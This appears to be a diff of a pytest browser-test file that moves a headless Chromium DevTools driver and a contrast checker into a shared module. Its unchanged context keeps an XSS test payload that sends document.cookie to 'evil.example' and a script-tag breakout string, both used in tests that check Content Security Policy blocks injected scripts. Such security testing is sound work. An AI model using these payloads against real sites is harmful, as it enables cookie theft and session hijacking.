@@ -2,16 +2,8 @@
 
 from __future__ import annotations
 
-import base64
-import contextlib
 import io
-import itertools
-import json
-import os
 import re
-import shutil
-import signal
-import subprocess
 import time
 from collections.abc import Callable, Iterator
 from pathlib import Path
@@ -21,137 +13,11 @@ import httpx
 import numpy as np
 import pytest
 from PIL import Image
-from websockets.sync.client import ClientConnection, connect
 
-BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
+from tests.browser import BROWSER, Browser
+
 HOSTILE = "<img src=x onerror=\"window.harmed = 1; fetch('https://evil.example/' + document.cookie)\">"
 SCRIPT = "</script><script>window.harmed = 2</script>"
-DEADLINE = 60.0
-
-
-class Browser:
-    """One tab of a headless browser, driven by its DevTools protocol.
-
-    Attributes:
-        complaints: what it wrote to its console: errors, refused styles and scripts, failed requests.
-        requests: addresses that it asked for.
-    """
-
-    def __init__(self, profile: Path) -> None:
-        assert BROWSER is not None
-        quiet = "--disable-background-networking --disable-component-update --disable-sync --disable-quic"
-        flags = f"--headless --no-sandbox --disable-gpu --no-first-run --remote-debugging-port=0 {quiet}"
-        command = [BROWSER, *flags.split(), f"--user-data-dir={profile}", "about:blank"]
-        self._process = subprocess.Popen(
-            command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
-        )
-        self.complaints: list[str] = []
-        self.requests: list[str] = []
-        self._numbers = itertools.count(1)
-        self._open = contextlib.ExitStack()
-        self._socket = self._attach(profile / "DevToolsActivePort")
-        for domain in ("Page", "Runtime", "Network", "Log"):
-            self.call(f"{domain}.enable")
-
-    def _attach(self, port_file: Path) -> ClientConnection:
-        give_up = time.monotonic() + DEADLINE
-        while time.monotonic() < give_up:
-            with contextlib.suppress(OSError, ValueError, IndexError, httpx.TransportError):
-                port = int(port_file.read_text().split()[0])
-                tabs = httpx.get(f"http://127.0.0.1:{port}/json/list").json()
-                tab = next(tab for tab in tabs if tab["type"] == "page")
-                return self._open.enter_context(
-                    connect(tab["webSocketDebuggerUrl"], max_size=None, ping_interval=None)
-                )
-            time.sleep(0.1)
-        raise AssertionError("the browser did not start")
-
-    def call(self, method: str, **params: Any) -> dict[str, Any]:
-        """Send a command; what happens until its answer is noted."""
-        number = next(self._numbers)
-        self._socket.send(json.dumps({"id": number, "method": method, "params": params}))
-        while True:
-            message = json.loads(self._socket.recv(timeout=DEADLINE))
-            if message.get("id") == number:
-                assert "error" not in message, message
-                return dict(message["result"])
-            self._note(message["method"], message["params"])
-
-    def _note(self, event: str, params: dict[str, Any]) -> None:
-        if event == "Network.requestWillBeSent":
-            self.requests.append(params["request"]["url"])
-        elif event == "Runtime.exceptionThrown":
-            self.complaints.append(json.dumps(params["exceptionDetails"]))
-        elif event == "Runtime.consoleAPICalled":
-            self.complaints.append(" ".join(str(argument.get("value")) for argument in params["args"]))
-        elif event == "Log.entryAdded":
-            self.complaints.append(f"{params['entry']['text']} {params['entry'].get('url', '')}")
-
-    def run(self, script: str) -> Any:
-        """The value of an expression in the page."""
-        done = self.call("Runtime.evaluate", expression=script, returnByValue=True, awaitPromise=True)
-        assert "exceptionDetails" not in done, done
-        return done["result"].get("value")
-
-    def open(self, url: str, *, width: int = 1100, height: int = 900, dark: bool = False) -> None:
-        self.resize(width, height)
-        self.dark(dark)
-        self.call("Page.navigate", url=url)
-        self.wait("document.readyState === 'complete'")
-
-    def resize(self, width: int, height: int) -> None:
-        self.call(
-            "Emulation.setDeviceMetricsOverride",
-            width=width,
-            height=height,
-            deviceScaleFactor=1,
-            mobile=False,
-        )
-
-    def dark(self, wanted: bool) -> None:
-        feature = {"name": "prefers-color-scheme", "value": "dark" if wanted else "light"}
-        self.call("Emulation.setEmulatedMedia", features=[feature])
-
-    def wait(self, condition: str, seconds: float = DEADLINE) -> None:
-        give_up = time.monotonic() + seconds
-        while not self.run(f"Boolean({condition})"):
-            assert time.monotonic() < give_up, f"never came: {condition}\n{self.text()}\n{self.complaints}"
-            time.sleep(0.05)
-
-    def text(self) -> str:
-        return str(self.run("document.body.innerText"))
-
-    def type(self, text: str) -> None:
-        self.call("Input.insertText", text=text)
-
-    def press(self, key: str) -> None:
-        codes = {"Tab": 9, "Enter": 13, " ": 32}
-        what = {"key": key, "windowsVirtualKeyCode": codes[key]}
-        if key == "Enter":
-            what["text"] = "\r"
-        elif key == " ":
-            what["text"] = " "
-        self.call("Input.dispatchKeyEvent", type="keyDown", **what)
-        self.call("Input.dispatchKeyEvent", type="keyUp", **what)
-
-    def point(self, element: str, *, across: float) -> None:
-        """Move the mouse over an element, to this share of its width."""
-        box = self.run(
-            f"(() => {{ const e = {element}; e.scrollIntoView(); return e.getBoundingClientRect().toJSON(); }})()"
-        )
-        x, y = box["left"] + across * box["width"], box["top"] + box["height"] / 2
-        self.call("Input.dispatchMouseEvent", type="mouseMoved", x=x, y=y)
-
-    def picture(self) -> bytes:
-        """The whole page as a PNG."""
-        taken = self.call("Page.captureScreenshot", captureBeyondViewport=True)
-        return base64.b64decode(taken["data"])
-
-    def close(self) -> None:
-        self._open.close()
-        with contextlib.suppress(ProcessLookupError):
-            os.killpg(self._process.pid, signal.SIGKILL)
-        self._process.wait(DEADLINE)
 
 
 @pytest.fixture
@@ -237,33 +103,6 @@ def test_even_a_page_that_was_tampered_with_runs_no_other_script(filled: Any, br
     assert [complaint for complaint in browser.complaints if "Content Security Policy" in complaint]
 
 
-CONTRAST = """(() => {
-  const parse = (text) => (text.match(/[\\d.]+/g) || []).map(Number);
-  const luminance = ([r, g, b]) => [r, g, b].map((v) => v / 255)
-    .map((v) => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
-    .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
-  const behind = (element) => {
-    for (let e = element; e; e = e.parentElement) {
-      const colour = parse(getComputedStyle(e).backgroundColor);
-      if (colour.length === 3 || colour[3] > 0) return colour;
-    }
-    return [255, 255, 255];
-  };
-  const low = [];
-  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
-  while (walker.nextNode()) {
-    const element = walker.currentNode.parentElement;
-    if (!walker.currentNode.textContent.trim() || !element.getClientRects().length) continue;
-    if (["SCRIPT", "STYLE", "NOSCRIPT"].includes(element.tagName)) continue;
-    const style = getComputedStyle(element), svg = element instanceof SVGElement;
-    const [a, b] = [luminance(parse(svg ? style.fill : style.color)), luminance(behind(element))].sort((x, y) => y - x);
-    const ratio = (a + 0.05) / (b + 0.05);
-    if (ratio < 4.5) low.push(`${ratio.toFixed(2)} ${element.className} ${walker.currentNode.textContent.trim()}`);
-  }
-  return low;
-})()"""
-
-
 @pytest.mark.parametrize("dark", [False, True])
 def test_it_can_be_read_in_light_and_dark_and_on_a_phone(filled: Any, browser: Browser, dark: bool) -> None:
     browser.open(filled.url, dark=dark)
@@ -273,7 +112,7 @@ def test_it_can_be_read_in_light_and_dark_and_on_a_phone(filled: Any, browser: B
     picture = np.asarray(Image.open(io.BytesIO(browser.picture())).convert("L"), float)
     assert picture.std() > 5
     assert np.median(picture) < 60 if dark else np.median(picture) > 200
-    assert browser.run(CONTRAST) == []
+    assert browser.low_contrast() == []
     browser.point("document.getElementById('grown')", across=0.9)
     read = browser.run("document.getElementById('grown-at').textContent")
     assert re.fullmatch(r"\d\d:\d\d:\d\d\s+\d+", read)  # when, and how many
